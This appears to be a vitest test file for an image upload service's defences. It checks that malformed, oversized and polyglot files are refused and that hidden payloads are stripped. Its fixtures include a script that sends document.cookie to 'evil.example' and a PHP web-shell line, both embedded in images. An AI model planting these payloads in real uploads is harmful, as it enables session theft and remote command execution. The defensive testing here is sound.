import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pictureBytes } from '../../contract/constants.ts';
import { startTestApp, type TestApp } from '../../tests/app.ts';
import { makeAccount } from '../../tests/factories.ts';
import { formOf, noisyPicture, plainPicture } from '../../tests/pictures.ts';
import { Refusal } from '../refusal.ts';
import { keepPicture } from './actions.ts';

let site: TestApp;
beforeAll(async () => {
  site = await startTestApp();
});
afterAll(() => site.close());

async function upload(
  path: '/cdn/picture' | '/cdn/profile',
  bytes: Buffer,
  name = 'a.jpg',
  type = 'image/jpeg',
) {
  // An account each, so that the budget of one is not what is tested.
  const { token } = await makeAccount(site.context, 'R');
  return site.call('POST', path, { token, body: formOf(bytes, { name, type }) });
}

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** A part of a PNG, with its checksum or a wrong one. */
function chunk(name: string, data: Buffer, { wrong = false } = {}): Buffer {
  const content = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const framed = Buffer.alloc(content.length + 8);
  framed.writeUInt32BE(data.length);
  content.copy(framed, 4);
  framed.writeUInt32BE((crc32(content) ^ (wrong ? 1 : 0)) >>> 0, content.length + 4);
  return framed;
}

/** A grey PNG of a bit a pixel that says it has this size; its pixels are `rows` bytes. */
function png(
  width: number,
  height: number,
  { rows = 64, wrong = false, extra }: { rows?: number; wrong?: boolean; extra?: Buffer } = {},
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(rows)), { wrong });
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    extra ?? Buffer.alloc(0),
    pixels,
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG that says in its frame's header that it has this size. */
async function jpegOfSize(width: number, height: number): Promise<Buffer> {
  const bytes = await sharp(await plainPicture().png().toBuffer())
    .jpeg()
    .toBuffer();
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

/** A RIFF file of parts, as WebP is. */
function webp(...parts: [name: string, data: Buffer][]): Buffer {
  const framed = parts.map(([name, data]) => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(data.length);
    return Buffer.concat([Buffer.from(name, 'latin1'), length, data]);
  });
  const content = Buffer.concat([Buffer.from('WEBP', 'latin1'), ...framed]);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(content.length);
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), length, content]);
}

function movingWebp(): Promise<Buffer> {
  const frame = (background: string) => plainPicture({ background }).png().toBuffer();
  return Promise.all(['red', 'blue'].map(frame)).then((frames) =>
    sharp(frames, { join: { animated: true } })
      .webp({ loop: 0, delay: [100, 100] })
      .toBuffer(),
  );
}

const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`;
/** A picture of one pixel, and one of two that move. */
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const notOne = 'Send a JPEG, PNG or WebP picture.';
const damaged = 'The picture is damaged or not complete.';
const tooMany = 'The picture has more than 25 megapixels. Send a smaller one.';
const moving = 'Moving pictures are not shown here. Send a still one.';
const empty = 'The file is empty.';

/** Files that must not come in, each with what is said of it. */
const hostile: [what: string, reason: string, make: () => Buffer | Promise<Buffer>][] = [
  ['nothing at all', empty, () => Buffer.alloc(0)],
  ['one byte', notOne, () => Buffer.from([0xff])],
  ['a text called a picture', notOne, () => Buffer.from('This is a picture of a well.')],
  ['a page', notOne, () => Buffer.from(`<!doctype html>${script}`)],
  ['an SVG with a script', notOne, () => Buffer.from(svg)],
  ['a GIF', notOne, () => gif],
  [
    'a GIF that is JavaScript too',
    notOne,
    () => Buffer.concat([Buffer.from('GIF89a=1;'), Buffer.from(script)]),
  ],
  ['a bitmap', notOne, () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
  ['a TIFF', notOne, () => Buffer.concat([Buffer.from('II*\0'), Buffer.alloc(60)])],
  ['a PDF', notOne, () => Buffer.from('%PDF-1.7\n1 0 obj')],
  ['an archive', notOne, () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(60)])],
  ['an AVIF', notOne, () => plainPicture().avif({ effort: 0 }).toBuffer()],
  ['a moving WebP', moving, movingWebp],
  ['a PNG of 1.8 gigapixels in a few bytes', tooMany, () => png(60_000, 30_000)],
  ['a PNG of 26 megapixels in a few bytes', tooMany, () => png(5200, 5000, { rows: 651 * 5000 })],
  ['a PNG of the greatest size there can be', damaged, () => png(0x7fffffff, 0x7fffffff)],
  ['a PNG without width or height', damaged, () => png(0, 0)],
  ['a PNG whose checksum is wrong', damaged, () => png(8, 8, { wrong: true })],
  ['a PNG with fewer pixels than it says', damaged, () => png(400, 400)],
  [
    'a PNG that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).png().toBuffer()).subarray(0, 9000),
  ],
  ['the beginning of a PNG', damaged, () => signature],
  ['a JPEG of 4 gigapixels in a few bytes', tooMany, () => jpegOfSize(65_500, 65_500)],
  [
    'a JPEG that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).jpeg().toBuffer()).subarray(0, 2000),
  ],
  ['a JPEG without width or height', damaged, () => jpegOfSize(0, 0)],
  [
    'a script that begins as a JPEG',
    damaged,
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(script)]),
  ],
  [
    'a WebP that is cut off',
    damaged,
    async () => (await noisyPicture(90, 90).webp().toBuffer()).subarray(0, 900),
  ],
  ['a script that begins as a WebP', damaged, () => webp(['VP8 ', Buffer.from(script)])],
  [
    'a WebP of 268 megapixels in a few bytes',
    damaged,
    () => webp(['VP8L', Buffer.from('2fffffff0f00', 'hex')]),
  ],
];

describe.each(hostile)('%s', (_what, reason, make) => {
  it.each(['/cdn/picture', '/cdn/profile'] as const)('is refused at %s with its reason', async (path) => {
    const { status, body } = await upload(path, await make());
    expect({ status, body }).toEqual({
      status: 422,
      body: {
        ok: false,
        code: 'unreadable_picture',
        message: 'Invalid Image format',
        fields: { data: reason },
      },
    });
  });

  it('is refused from a folder of posts too', async () => {
    const kept = keepPicture(site.context, await make());
    await expect(kept).rejects.toBeInstanceOf(Refusal);
    await expect(kept).rejects.toMatchObject({
      code: 'unreadable_picture',
      detail: { fields: { data: reason } },
    });
  });
});

it('a name and a type that fit help nobody', async () => {
  const { status } = await upload('/cdn/picture', Buffer.from(svg), 'a.png', 'image/png');
  expect(status).toBe(422);
});

describe('what hides in a picture', () => {
  const payload = Buffer.from(`${script}<?php system($_GET["c"]); ?>`);
  const hidden: [where: string, make: () => Promise<Buffer>][] = [
    ['behind a JPEG', async () => Buffer.concat([await plainPicture().jpeg().toBuffer(), payload])],
    ['behind a PNG', async () => Buffer.concat([await plainPicture().png().toBuffer(), payload])],
    ['behind a WebP', async () => Buffer.concat([await plainPicture().webp().toBuffer(), payload])],
    [
      'in a text of a PNG',
      async () => png(8, 8, { extra: chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), payload])) }),
    ],
    ['in a part of a PNG that nobody knows', async () => png(8, 8, { extra: chunk('evIl', payload) })],
    ['in a comment of a JPEG', async () => withJpegPart(0xfe, payload)],
    ['in an unknown part of a JPEG', async () => withJpegPart(0xeb, payload)],
    [
      'in the metadata of a JPEG',
      () =>
        plainPicture()
          .withExif({ IFD0: { Artist: payload.toString() } })
          .jpeg()
          .toBuffer(),
    ],
    [
      'in the metadata of a WebP',
      () =>
        plainPicture()
          .withExif({ IFD0: { Artist: payload.toString() } })
          .webp()
          .toBuffer(),
    ],
    [
      'in an archive behind a PNG',
      async () => Buffer.concat([await plainPicture().png().toBuffer(), Buffer.from('PK\x03\x04'), payload]),
    ],
  ];

  async function withJpegPart(code: number, data: Buffer): Promise<Buffer> {
    const bytes = await plainPicture().jpeg().toBuffer();
    const head = Buffer.from([0xff, code, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([bytes.subarray(0, 2), head, data, bytes.subarray(2)]);
  }

  async function expectClean(address: string): Promise<void> {
    const { rawPayload } = await site.app.inject(address);
    expect(rawPayload.length).toBeGreaterThan(0);
    for (const part of ['<script', '<?php', 'evil.example', 'PK\x03\x04'])
      expect(rawPayload.includes(part, 0, 'latin1')).toBe(false);
  }

  it.each(hidden)('%s is not kept', async (_where, make) => {
    const bytes = await make();
    expect(bytes.includes('<script')).toBe(true);
    for (const path of ['/cdn/picture', '/cdn/profile'] as const) {
      const { status, body } = await upload(path, bytes);
      expect(status).toBe(200);
      await expectClean(body.url ?? body.profile_picture);
    }
    await expectClean(await keepPicture(site.context, bytes));
  });

  it('bytes that hide nothing are kept as they are from a folder of posts', async () => {
    for (const make of ['jpeg', 'png', 'webp'] as const) {
      const bytes = await noisyPicture(64, 48).toFormat(make).toBuffer();
      const { rawPayload } = await site.app.inject(await keepPicture(site.context, bytes));
      expect(rawPayload.equals(bytes), make).toBe(true);
    }
  });
});

it('all of them together take no more memory than an ordinary picture', async () => {
  const resident = () => process.memoryUsage.rss();
  const ordinary = await sharp(await noisyPicture(400, 300).png().toBuffer())
    .resize(4000, 3000)
    .jpeg({ quality: 70 })
    .toBuffer();
  expect(ordinary.length).toBeLessThan(pictureBytes);
  const files = await Promise.all(hostile.map(([, , make]) => make()));
  const before = resident();
  expect((await upload('/cdn/picture', ordinary)).status).toBe(200);
  const cost = Math.max(resident() - before, 12_000_000 * 3);
  const during: number[] = [];
  const settled = resident();
  for (let round = 0; round < 3; round += 1) {
    for (const bytes of files) {
      await upload('/cdn/picture', bytes);
      during.push(resident());
    }
  }
  expect(Math.max(...during) - settled).toBeLessThan(cost);
});

it('many at once wait their turn, and those that are too many are told to come again', async () => {
  const bytes = await noisyPicture(1200, 900).jpeg().toBuffer();
  const answers = await Promise.all(Array.from({ length: 40 }, () => upload('/cdn/picture', bytes)));
  const statuses = answers.map(({ status }) => status);
  expect(statuses.filter((status) => status === 200).length).toBeGreaterThan(0);
  expect(new Set(statuses)).toEqual(new Set([200, 503]));
  for (const { status, headers } of answers) if (status === 503) expect(headers['retry-after']).toBe('5');
});
